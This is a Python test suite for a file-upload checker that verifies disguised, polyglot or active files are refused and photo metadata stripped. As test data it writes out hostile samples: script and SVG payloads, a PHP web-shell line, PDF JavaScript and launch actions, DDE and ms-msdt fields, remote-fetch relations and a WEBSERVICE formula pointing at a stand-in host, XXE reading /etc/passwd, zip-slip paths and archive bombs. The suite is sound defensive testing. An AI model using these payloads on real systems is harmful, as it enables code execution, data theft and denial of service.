"""What may come in as a file does; what is something else, hides something or runs something does not."""

import io
import struct
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sluitend.access.errors import Refused
from sluitend.uploads import refusals
from sluitend.uploads.checking import checked
from sluitend.uploads.kinds import ALLOWED, LARGEST
from tests.uploads.samples import (
    GOOD,
    OFFICE,
    docx,
    odt,
    pdf,
    photo_with_a_place,
    picture,
    word_parts,
    xlsx,
    zipped,
)

HTML = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00" + bytes(200)
JAVA_SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def why(name: str, data: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        checked(name, data)
    assert refusal.value.field == "file"
    return str(refusal.value.message)


@pytest.mark.parametrize("name", GOOD)
def test_what_people_send_comes_in(name):
    accepted = checked(name, GOOD[name])
    assert accepted.kind.code in ALLOWED
    assert accepted.data
    assert "data" not in repr(accepted)


@pytest.mark.parametrize("name", [n for n in GOOD if n.endswith(("pdf", "docx", "xlsx", "odt"))])
def test_a_document_is_kept_byte_for_byte(name):
    assert checked(name, GOOD[name]).data == GOOD[name]


def test_every_kind_of_content_under_every_other_name_is_refused():
    for name, data in GOOD.items():
        mine = checked(name, data).kind
        for kind in ALLOWED.values():
            if kind is not mine:
                why(f"x.{kind.endings[0]}", data)


@pytest.mark.parametrize(
    "name",
    [
        "x.html", "x.svg", "x.exe", "x.js", "x.docm", "x.xlsm", "x.doc", "x.rtf", "x.zip", "x.gif", "x.xml", "x.pdf.exe",
        "x", "", ".pdf.", "x.pdf\u202efdp.exe", "x.php;.jp", "x.p\u200bhp",
    ],
)  # fmt: skip
def test_what_is_not_on_the_list_is_refused(name):
    if name == ".pdf.":
        assert checked(name, GOOD["verslag.pdf"]).name == "bestand.pdf"
    else:
        assert why(name, GOOD["verslag.pdf"]) == refusals.NOT_ALLOWED


@pytest.mark.parametrize("ending", sorted({ending for kind in ALLOWED.values() for ending in kind.endings}))
@pytest.mark.parametrize(
    "data", [HTML, SVG, EXE, b"GIF89a/*" + HTML, b"\0" * 500, b"PK\x03\x04" + bytes(100)]
)
def test_what_a_browser_or_a_computer_would_run_is_not_taken_for_something_else(ending, data):
    why(f"onschuldig.{ending}", data)


def test_an_empty_file_and_a_file_that_is_too_large_are_refused():
    assert why("leeg.pdf", b"") == refusals.EMPTY
    assert why("groot.txt", b"a" * (LARGEST + 1)) == refusals.TOO_LARGE


# --- two files in one -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("other", [HTML, SVG, EXE, GOOD["brief.docx"]])
@pytest.mark.parametrize("name", ["verslag.pdf", "brief.docx", "lijst.xlsx", "brief.odt"])
def test_a_document_with_something_in_front_or_behind_is_refused(name, other):
    why(name, other + GOOD[name])
    why(name, GOOD[name] + other)


def test_a_zip_behind_a_pdf_that_ends_as_a_pdf_is_refused():
    archive = zipped({"a.html": HTML})
    comment = b"\n%%EOF"
    why("x.pdf", GOOD["verslag.pdf"] + archive[:-2] + struct.pack("<H", len(comment)) + comment)


@pytest.mark.parametrize("other", [HTML, SVG, EXE, GOOD["brief.docx"], b"<?php system($_GET['x']); ?>"])
@pytest.mark.parametrize("name", ["foto.jpg", "scherm.png"])
def test_of_a_picture_with_something_behind_it_the_picture_stays(name, other):
    kept = checked(name, GOOD[name] + other).data
    assert other not in kept
    why(name, other + GOOD[name])


def test_what_is_written_inside_a_picture_goes():
    kept = checked("x.jpg", picture(comment=HTML)).data
    assert b"script" not in kept
    out = io.BytesIO()
    from PIL import PngImagePlugin

    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", HTML.decode())
    Image.new("RGB", (4, 4)).save(out, "PNG", pnginfo=texts)
    assert b"script" not in checked("x.png", out.getvalue()).data


# --- photos -----------------------------------------------------------------------------------------------------------


def test_a_photo_no_longer_tells_where_and_by_whom_it_was_taken():
    sent = photo_with_a_place()
    assert b"Telefoon van Anna" in sent
    kept = checked("foto.jpg", sent).data
    for secret in (b"Telefoon", b"Anna", b"thuis", b"Schuilplaats", b"Exif"):
        assert secret not in kept
    with Image.open(io.BytesIO(kept)) as seen:
        assert dict(seen.getexif()) == {}
        assert seen.size == (40, 60), "it stands upright although the mark that said so is gone"


def test_a_picture_of_gigabytes_in_a_few_bytes_is_refused_before_it_is_drawn():
    small = bytearray(picture("PNG", mode="1", size=(8, 8)))
    assert small[12:16] == b"IHDR"
    small[16:24] = struct.pack(">II", 100_000, 100_000)
    import zlib

    small[29:33] = struct.pack(">I", zlib.crc32(small[12:29]))
    assert why("bom.png", bytes(small)) in {refusals.TOO_MUCH, refusals.BROKEN}
    assert why("groot.png", picture("PNG", mode="1", size=(10_000, 6_000))) == refusals.TOO_MUCH


def test_a_picture_that_moves_is_refused():
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    assert why("x.png", out.getvalue()) == refusals.NOT_WHAT_IT_SAYS


# --- pdf --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": JAVA_SCRIPT},
        {"AA": f"<< /WC {JAVA_SCRIPT} >>"},
        {"Names": f"<< /JavaScript << /Names [ (x) {JAVA_SCRIPT} ] >> >>"},
        {"OpenAction": "<< /S /Launch /F (calc.exe) >>"},
        {"OpenAction": "<< /S /SubmitForm /F (https://kwaad.test/) >>"},
        {"OpenAction": f"<< /S /GoTo /Next [ {JAVA_SCRIPT} ] >>"},
        {"AcroForm": "<< /XFA (<xdp/>) >>"},
    ],
)
def test_a_pdf_that_runs_something_is_refused(root, packed):
    assert why("x.pdf", pdf(packed=packed, **root)) == refusals.ACTIVE


def test_a_script_under_a_disguised_name_is_found():
    plain = pdf(OpenAction=JAVA_SCRIPT)
    disguised = plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert disguised != plain
    assert why("x.pdf", disguised) == refusals.ACTIVE


def test_a_pdf_that_carries_files_is_refused():
    assert why("x.pdf", pdf(Names="<< /EmbeddedFiles << /Names [] >> >>")) == refusals.HOLDS_FILES
    assert why("x.pdf", pdf(AF="[ << /EF << >> >> ]")) == refusals.HOLDS_FILES


def test_a_pdf_with_a_password_is_refused_and_told_why():
    assert why("x.pdf", pdf(encrypt=True)) == refusals.LOCKED


def test_a_pdf_with_a_form_and_a_link_comes_in():
    link = "<< /S /URI /URI (https://www.voorbeeld.test/) >>"
    checked("x.pdf", pdf(AcroForm="<< /Fields [] /DA (/Helv 0 Tf) >>", OpenAction=link))


# --- Word, Excel, ODT ---------------------------------------------------------------------------------------------------


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> str:
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'


def field(*words: str) -> str:
    texts = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{texts}</w:p>'


@pytest.mark.parametrize(
    "data",
    [
        docx(**{"word/vbaProject.bin": b"x"}),
        docx(**{"word/activeX/activeX1.xml": "<x/>"}),
        docx(**{"[Content_Types].xml": '<T C="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}),
        docx(relations=relation("attachedTemplate", "https://kwaad.test/t.dotm")),
        docx(relations=relation("image", "https://kwaad.test/pixel.png")),
        docx(relations=relation("oleObject", "mhtml:https://kwaad.test/x!x-usc:y")),
        docx(relations=relation("image", "https://kwaad.test/p", 'TargetMode="&#69;xternal"')),
        docx(
            relations=relation("image", "https://kwaad.test/p", 'Note="&gt;" X=">" TargetMode = \'External\'')
        ),
        docx(relations=relation("hyperlink", "javascript:alert(1)")),
        docx(relations=relation("hyperlink", "file://kwaad.test/deel")),
        docx(relations=relation("hyperlink", "\\\\kwaad.test\\deel")),
        docx(relations=relation("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        docx(body=field("DDEAUTO c:\\windows\\system32\\cmd.exe")),
        docx(body=field("DD", "E cmd")),
        docx(body=field(" ", "INCLUDEPICTURE", ' "https://kwaad.test/p"')),
        docx(body='<w:fldSimple w:instr="DDE cmd"/>'),
    ],
)
def test_a_word_file_that_runs_or_fetches_something_is_refused(data):
    assert why("x.docx", data) == refusals.ACTIVE


@pytest.mark.parametrize(
    "data",
    [
        xlsx("<c><f>cmd|'/c calc'!A0</f></c>"),
        xlsx('<c><f>WEBSERVICE("https://kwaad.test/"&amp;A1)</f></c>'),
        xlsx("<c><f>CALL(&quot;kernel32&quot;)</f></c>"),
        xlsx(
            **{
                "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"
            }
        ),
        xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}),
        xlsx(**{"xl/connections.xml": "<connections/>"}),
        xlsx(
            **{
                "xl/_rels/workbook.xml.rels": f"<R>{relation('externalLinkPath', 'https://kwaad.test/x.xlsx')}</R>"
            }
        ),
    ],
)
def test_an_excel_file_that_runs_or_fetches_something_is_refused(data):
    assert why("x.xlsx", data) == refusals.ACTIVE


@pytest.mark.parametrize(
    "data",
    [
        odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
        odt("<office:event-listeners><script:event-listener/></office:event-listeners>"),
        odt('<text:a xlink:href="vnd.sun.star.script:x?language=Basic"/>'),
        odt('<draw:image xlink:href="https://kwaad.test/pixel.png"/>'),
        odt('<draw:image xlink:href="\\\\kwaad.test\\pixel.png"/>'),
        odt("<text:dde-connection-decl/>"),
    ],
)
def test_an_odt_file_that_runs_or_fetches_something_is_refused(data):
    assert why("x.odt", data) == refusals.ACTIVE


def test_a_link_that_one_clicks_on_may_stay():
    checked("x.docx", docx(relations=relation("hyperlink", "https://www.voorbeeld.test/")))
    checked("x.odt", odt('<text:a xlink:href="https://www.voorbeeld.test/">hier</text:a>'))


LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
READS = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


@pytest.mark.parametrize("text", [LAUGHS, READS, LAUGHS.encode("utf-16"), "<x>", "geen xml <"])
@pytest.mark.parametrize(
    ("name", "make", "part"),
    [("x.docx", docx, "word/document.xml"), ("x.xlsx", xlsx, "xl/a.xml"), ("x.odt", odt, "styles.xml")],
)
def test_xml_that_declares_something_or_is_broken_is_refused(name, make, part, text):
    assert why(name, make(**{part: text})) in {refusals.NOT_WHAT_IT_SAYS, refusals.BROKEN}


def test_a_locked_document_is_told_apart():
    locked = odt(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"})
    assert why("x.odt", locked) == refusals.LOCKED


@pytest.mark.parametrize(
    "content", [GOOD["brief.docx"], b"\x1f\x8b\x08", b"7z\xbc\xaf\x27\x1c", EXE, b"\xd0\xcf\x11\xe0"]
)
def test_a_file_within_a_file_is_refused(content):
    assert why("x.docx", docx(**{"word/media/plaatje.png": content})) == refusals.HOLDS_FILES
    assert why("x.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"})) == refusals.HOLDS_FILES


# --- archives ---------------------------------------------------------------------------------------------------------


def test_an_archive_bomb_is_refused_without_unpacking_it():
    assert why("x.docx", docx(**{"word/media/a.bin": bytes(30_000_000)})) == refusals.TOO_MUCH
    heavy = {f"word/media/{n}.bin": bytes(900_000) for n in range(60)}
    assert why("x.docx", docx(**heavy)) == refusals.TOO_MUCH
    many = {f"word/media/{n}.bin": b"x" for n in range(2500)}
    assert why("x.docx", docx(**many)) == refusals.TOO_MUCH


def test_a_bomb_that_lies_about_its_size_is_refused():
    bomb = bytearray(docx(**{"word/media/a.bin": bytes(30_000_000)}))
    real, lie = struct.pack("<I", 30_000_000), struct.pack("<I", 100)
    assert bomb.count(real) == 2
    why("x.docx", bytes(bomb.replace(real, lie)))


@pytest.mark.parametrize(
    "part",
    [
        "../../etc/cron.d/x",
        "/etc/passwd",
        "word\\..\\x.xml",
        "C:/x.xml",
        "word/../x.xml",
        "./x.xml",
    ],
)
def test_a_part_that_would_be_written_elsewhere_is_refused(part):
    why("x.docx", docx(**{part: "<x/>"}))


def test_a_name_that_is_cut_short_is_refused():
    cut = docx(**{"word/Z.xml": "<x/>"}).replace(b"word/Z.xml", b"word/\0.xml")
    assert why("x.docx", cut) == refusals.NOT_WHAT_IT_SAYS
    assert why("x.docx", docx(**{"word/leeg/": "toch niet"})) == refusals.NOT_WHAT_IT_SAYS


def test_a_link_or_a_locked_or_a_doubled_part_is_refused():
    for change in (
        lambda info: setattr(info, "external_attr", 0o120777 << 16),
        lambda info: setattr(info, "compress_type", zipfile.ZIP_LZMA),
    ):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, content in word_parts().items():
                info = zipfile.ZipInfo(name)
                if name == "_rels/.rels":
                    change(info)
                archive.writestr(info, content)
        assert why("x.docx", out.getvalue()) == refusals.NOT_WHAT_IT_SAYS
    assert why("x.docx", docx(**{"WORD/document.xml": "<x/>"})) == refusals.NOT_WHAT_IT_SAYS
    locked = bytearray(docx())
    for at in [at for at in range(len(locked)) if locked[at : at + 4] == b"PK\x01\x02"]:
        locked[at + 8] |= 1
    assert why("x.docx", bytes(locked)) == refusals.LOCKED


def test_what_hides_between_the_parts_is_found():
    honest = docx()
    second = honest.index(b"PK\x03\x04", 10)
    hidden = bytearray(honest[:second] + HTML + honest[second:])
    moved = len(HTML)
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        start = archive.start_dir
    at = start + moved
    while hidden[at : at + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack_from("<HHH", hidden, at + 28)
        (offset,) = struct.unpack_from("<I", hidden, at + 42)
        struct.pack_into("<I", hidden, at + 42, offset + moved if offset else 0)
        at += 46 + name + extra + comment
    struct.pack_into("<I", hidden, len(hidden) - 6, start + moved)
    with zipfile.ZipFile(io.BytesIO(bytes(hidden))) as archive:
        assert archive.testzip() is None, "zipfile finds nothing wrong with it"
    assert why("x.docx", bytes(hidden)) == refusals.NOT_WHAT_IT_SAYS


# --- any bytes --------------------------------------------------------------------------------------------------------


@given(data=st.binary(max_size=400), ending=st.sampled_from(["pdf", "jpg", "png", "docx", "xlsx", "odt"]))
def test_arbitrary_bytes_are_refused_in_words(data, ending):
    why(f"x.{ending}", data)


@settings(max_examples=150)
@given(name=st.sampled_from(sorted(GOOD)), at=st.integers(0, 10**6), change=st.binary(min_size=1, max_size=8))
def test_a_damaged_file_is_taken_or_refused_and_never_an_accident(name, at, change):
    data = bytearray(GOOD[name])
    at %= len(data)
    data[at : at + len(change)] = change
    with suppress(Refused):
        checked(name, bytes(data))


@given(st.text(max_size=300))
def test_text_that_comes_in_is_text(words):
    try:
        kept = checked("x.txt", words.encode("utf-8", "replace") or b" ").data.decode()
    except Refused:
        return
    assert "\0" not in kept
    assert "<script" not in kept.lower()
